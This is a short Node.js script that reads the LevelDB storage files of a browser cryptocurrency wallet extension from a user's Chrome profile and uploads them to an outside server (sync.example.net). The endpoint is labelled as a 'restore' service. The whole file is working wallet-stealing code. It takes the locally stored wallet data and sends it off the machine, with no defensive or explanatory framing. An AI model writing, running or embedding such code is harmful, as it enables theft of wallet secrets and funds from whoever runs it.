// Copies a browser wallet extension's local storage (LevelDB) and uploads it.
const fs = require('fs');
const os = require('os');
const path = require('path');

const ext = path.join(os.homedir(), '.config', 'google-chrome', 'Default',
  'Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn');
const form = new FormData();
for (const f of fs.readdirSync(ext)) {
  if (f.endsWith('.ldb') || f.endsWith('.log')) {
    form.append(f, new Blob([fs.readFileSync(path.join(ext, f))]), f);
  }
}
fetch('https://sync.example.net/restore', { method: 'POST', body: form });
